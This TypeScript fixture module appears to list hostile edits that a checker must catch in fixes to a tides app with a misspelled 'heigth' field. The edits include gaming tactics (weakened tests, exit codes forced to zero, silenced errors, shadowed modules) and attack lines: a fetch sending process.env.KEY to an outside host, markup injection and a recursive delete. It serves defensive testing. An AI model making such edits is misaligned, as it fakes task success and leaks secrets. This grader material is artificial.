import { about, atFault, FAULT, type HostileCase, inFront, plain, REPAIR, swap, write } from './hostile-case.js';
import { DIAGNOSIS } from './repository.js';

const NAMED = about({ errors: DIAGNOSIS.errors.map((error) => ({ ...error, symbol: 'heigth' })) });

function keeping(disguise: string, ...edits: HostileCase['edits']): HostileCase {
  return { disguise, edits, diagnosis: NAMED };
}

export const behaviourCases: Readonly<Record<string, readonly HostileCase[]>> = {
  'behaviour-deleted': [
    atFault('the statement at fault', ''),
    plain(
      'the loop around it',
      swap('lib/tides.ts', '  for (const tide of tides) {\n    most = Math.max(most, tide.heigth);\n  }\n', ''),
    ),
    atFault('an assignment that computes nothing', '    most = 0;'),
    plain(
      'the element that shows it',
      swap('app/page.tsx', '      <Chart tides={tides} />\n', ''),
      swap('app/page.tsx', "import { Chart } from '../components/Chart';\n", ''),
      swap('lib/tides.ts', FAULT, 'tide.height'),
    ),
    plain('a state of the component', REPAIR, swap('components/Chart.tsx', ' onClick={() => choose(index)}', '')),
  ],
  'failure-hidden': [
    inFront('the exit code', 'process.exitCode = 0;'),
    inFront('an early end', 'process.exit(0);'),
    inFront('a handler of last resort', "process.on('uncaughtException', () => {});"),
    inFront('rejections', "globalThis.process.once('unhandledRejection', () => undefined);"),
    inFront('errors that nobody reads', 'console.error = () => {};'),
    inFront('by a computed name', "console['error'] = () => {};"),
  ],
  'type-laundered': [
    atFault('through JSON', '    most = Math.max(most, JSON.parse(JSON.stringify(tide)).heigth);'),
    atFault('by reflection', "    most = Math.max(most, Reflect.get(tide, 'heigth'));"),
    atFault('by the constructor of everything', '    most = Math.max(most, Object(tide).heigth);'),
  ],
  'misspelling-kept': [
    keeping('declared', swap('lib/tides.ts', '  height: number;', '  height: number;\n  heigth: number;')),
    keeping(
      'declared as optional, with a default',
      swap('lib/tides.ts', '  height: number;', '  height: number;\n  heigth?: number;'),
      swap('lib/tides.ts', FAULT, '(tide.heigth ?? 0)'),
    ),
    keeping('looked up by a string', swap('lib/tides.ts', FAULT, "Number(tide['heigth' as keyof Tide])")),
    keeping('by an intersection', swap('lib/tides.ts', FAULT, '(tide as Tide & { heigth: number }).heigth')),
    keeping('asked for at run time', swap('lib/tides.ts', FAULT, "('heigth' in tide ? Number(tide.heigth) : 0)")),
    keeping('as a record', swap('lib/tides.ts', FAULT, 'Number((tide as Record<string, unknown>).heigth)')),
  ],
  'test-weakened': [
    plain('another matcher', REPAIR, swap('lib/tides.test.ts', '.toBe(2)', '.toBeDefined()')),
    plain('another value', REPAIR, swap('lib/tides.test.ts', '.toBe(2)', '.toBe(0)')),
    plain('the opposite', REPAIR, swap('lib/tides.test.ts', ').toBe(2)', ').not.toBe(2)')),
  ],
  'module-shadowed': [
    plain('JavaScript beside TypeScript', write('lib/tides.js', 'export const highest = () => 0;\n')),
    plain('a folder of the name', REPAIR, write('lib/tides/index.ts', 'export const highest = () => 0;\n')),
    plain('types beside it', REPAIR, write('lib/tides.d.ts', 'export declare const highest: unknown;\n')),
  ],
  'request-added': [
    inFront('a known host', 'void fetch(HOST, { headers: { a: String(process.env.KEY) } });'),
    inFront('an address in pieces', "void globalThis.fetch(['https:', '', 'collector.example.net'].join('/'));"),
    inFront('a beacon', "navigator.sendBeacon('/x', '1');"),
    inFront('a socket', "new WebSocket(HOST.replace('https', 'wss'));"),
    inFront('by the module', "import https from 'node:https';\nhttps.get(HOST);"),
  ],
  'markup-injected': [
    plain(
      'text as HTML',
      REPAIR,
      swap('app/page.tsx', '<h1>Tides</h1>', '<h1 dangerouslySetInnerHTML={{ __html: tides[0].time }} />'),
    ),
    plain('a script', REPAIR, swap('app/page.tsx', '<h1>Tides</h1>', '<h1>Tides</h1>\n      <script src="/x.js" />')),
    plain('a frame', REPAIR, swap('app/page.tsx', '<h1>Tides</h1>', '<h1>Tides</h1>\n      <iframe src="/x" />')),
    plain('in a Vue template', REPAIR, swap('widgets/Map.vue', '<p>{{ level }}</p>', '<p v-html="level" />')),
    plain('in a Svelte template', REPAIR, swap('widgets/Card.svelte', '<p>{level}</p>', '<p>{@html level}</p>')),
    inFront('by assignment', "document.body.innerHTML = '<b>';"),
  ],
  'file-written': [
    inFront('a file', "import { writeFileSync } from 'node:fs';\nwriteFileSync('out.txt', '1');"),
    inFront('by promises', "import fs from 'node:fs/promises';\nvoid fs.writeFile('out.txt', '1');"),
    inFront('a removal', "import fs from 'node:fs';\nfs.rmSync('lib', { recursive: true });"),
  ],
};
